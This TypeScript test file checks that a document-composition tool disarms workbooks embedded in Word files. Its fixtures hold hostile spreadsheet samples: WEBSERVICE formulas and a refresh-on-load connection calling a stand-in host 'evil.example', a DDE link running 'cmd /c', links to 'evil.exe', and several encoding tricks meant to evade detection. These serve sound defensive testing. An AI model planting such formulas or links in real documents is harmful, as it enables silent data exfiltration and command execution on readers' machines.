import { describe, expect, test } from 'vitest'
import { relationships } from '../../disarm/hostile-markup.fixture.ts'
import { composeFiles } from '../composed-file.fixture.ts'
import { bookOf, cellWith, embeddingBook, inside, OOXML, S, textsWithin } from './embedded-file.fixture.ts'

const FETCHING = '_xlfn.WEBSERVICE("http://evil.example/")'
const HOSTILE = /evil|WEB|ddeLink|cmd/
const NAMED_BY_TYPE: Record<string, Buffer> = {
  'a link to another workbook in a part of an unusual name': bookOf(
    cellWith('SUM(B1)'),
    {
      'xl/_rels/workbook.xml.rels': inside([
        ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
        ['rId2', 'externalLink', 'far/one.xml'],
      ]),
      'xl/far/one.xml': `<externalLink ${S}><ddeLink ddeService="cmd" ddeTopic="/c evil"/></externalLink>`,
    },
    { 'xl/far/one.xml': `${OOXML}spreadsheetml.externalLink+xml` },
    '<externalReferences><externalReference r:id="rId2"/></externalReferences>',
  ),
  'a data connection in a part of an unusual name': bookOf(
    cellWith('SUM(B1)'),
    {
      'xl/_rels/workbook.xml.rels': inside([
        ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
        ['rId2', 'connections', '/data.xml'],
      ]),
      'data.xml': `<connections ${S}><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="http://evil.example/"/></connection></connections>`,
    },
    { 'data.xml': `${OOXML}spreadsheetml.connections+xml` },
  ),
  'a worksheet of an unusual name': bookOf(
    '<sheetData/>',
    {
      'xl/_rels/workbook.xml.rels': inside([['rId1', 'worksheet', '/leaves/one.xml']]),
      'leaves/one.xml': `<worksheet ${S}>${cellWith(FETCHING)}</worksheet>`,
    },
    { 'leaves/one.xml': `${OOXML}spreadsheetml.worksheet+xml` },
  ),
}
const WRITTEN_OTHERWISE: Record<string, Buffer> = {
  'letters as character references': bookOf(cellWith(FETCHING.replace('S', '&#83;').replace('(', '&#x28;'))),
  'a comment inside': bookOf(cellWith(FETCHING.replace('(', '<!-- -->('))),
  'unescaped text (CDATA)': bookOf(cellWith(`<![CDATA[${FETCHING}]]>`)),
  'another prefix': bookOf(
    Buffer.from(
      `<x-y:worksheet ${S.replace('xmlns', 'xmlns:x-y')}>${cellWith(FETCHING).replace(/<(\/?)/g, '<$1x-y:')}</x-y:worksheet>`,
    ),
  ),
  'UTF-16': bookOf(Buffer.from(`\uFEFF<worksheet ${S}>${cellWith(FETCHING)}</worksheet>`, 'utf16le')),
  'a defined name': bookOf(
    cellWith('far'),
    {},
    {},
    `<definedNames><definedName name="far">${FETCHING}</definedName></definedNames>`,
  ),
  'a conditional format': bookOf(
    `<sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>${FETCHING}</formula></cfRule></conditionalFormatting>`,
  ),
  'Python in the cloud': bookOf(cellWith('_xlfn._xlws.PY(0,1,"evil")')),
}

/** Expects that nothing of the workbook fetches anything once it is in a proposal, and returns its texts there. */
async function expectCalm(book: Buffer, kind: string): Promise<string> {
  let inner = ''
  await composeFiles({ a: embeddingBook(book) }, {}, async ({ document, report }) => {
    inner = textsWithin(await document.partBytes('word/embeddings/book.xlsx'))
    expect(inner).not.toMatch(HOSTILE)
    expect(inner).toContain('worksheet')
    expect(report.ledger.unexplained).toBe(0)
    expect(report.disarmed.pieces.map((piece) => piece.kind)).toContain(kind)
  })
  return inner
}

describe('an embedded workbook fetches nothing', () => {
  test.for(Object.keys(NAMED_BY_TYPE))('by %s', async (name) => {
    const kind = name.includes('connection') ? 'data-connection' : 'linked-object'
    await expectCalm(NAMED_BY_TYPE[name] as Buffer, kind)
  })
  test.for(Object.keys(WRITTEN_OTHERWISE))('by a formula with %s', async (name) => {
    await expectCalm(WRITTEN_OTHERWISE[name] as Buffer, 'linked-object')
  })

  test('by a formula in a worksheet that also has a hostile link, and its names are replaced', async () => {
    const sheet = `${cellWith(FETCHING).replace('</row>', '<c r="B1" t="inlineStr"><is><t>Hospital Velho</t></is></c></row>')}<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>`
    const book = bookOf(sheet, {
      'xl/worksheets/_rels/sheet1.xml.rels': relationships([['rId1', 'hyperlink', 'file:///c:/evil.exe']]),
    })
    const replacements = [{ from: 'Hospital Velho', to: 'Santa Casa' }]
    await composeFiles({ a: embeddingBook(book) }, { replacements }, async ({ document }) => {
      const inner = textsWithin(await document.partBytes('word/embeddings/book.xlsx'))
      expect(inner).not.toMatch(HOSTILE)
      expect(inner).not.toContain('Velho')
      expect(inner).toContain('Santa Casa')
    })
  })

  test('by a formula in a worksheet of more than 32 MiB', async () => {
    const long = `<row><c t="inlineStr"><is><t>${'texto '.repeat(5_700_000)}</t></is></c></row>`
    const row = '<row><c r="A1"><f>SUM(B1,B2)</f><v>1</v></c></row>'
    const shared = (formula: string): string =>
      `<row><c><f t="shared" si="7">${formula}</f><v>43</v></c></row>`
    const book = bookOf(`<sheetData>${shared('')}${row}${long}${shared(FETCHING)}${row}</sheetData>`)
    const inner = await expectCalm(book, 'linked-object')
    expect(inner).not.toContain('si="7"')
    expect(inner.split('<f>SUM(B1,B2)</f><v>1</v>')).toHaveLength(3)
  })

  test('by relationships with an end tag or in UTF-16', async () => {
    const far = relationships([['rId1', 'oleObject', 'file:///c:/evil.xlsx']])
    for (const list of [
      Buffer.from(far.replace('/></', '></Relationship></')),
      Buffer.from(`\uFEFF${far}`, 'utf16le'),
      Buffer.from(far.replace('rId1', 'rId&#49;')),
    ])
      await expectCalm(
        bookOf('<sheetData/>', { 'xl/worksheets/_rels/sheet1.xml.rels': list }),
        'linked-object',
      )
  })
})

test('a workbook that calculates only from itself keeps its bytes', async () => {
  const book = bookOf(cellWith('IF(A2&gt;"IMAGE","WEB",SUM(x!A1:A2))'))
  await composeFiles({ a: embeddingBook(book) }, {}, async ({ document, report }) => {
    expect((await document.partBytes('word/embeddings/book.xlsx')).equals(book)).toBe(true)
    expect(report.disarmed.total).toBe(0)
  })
})
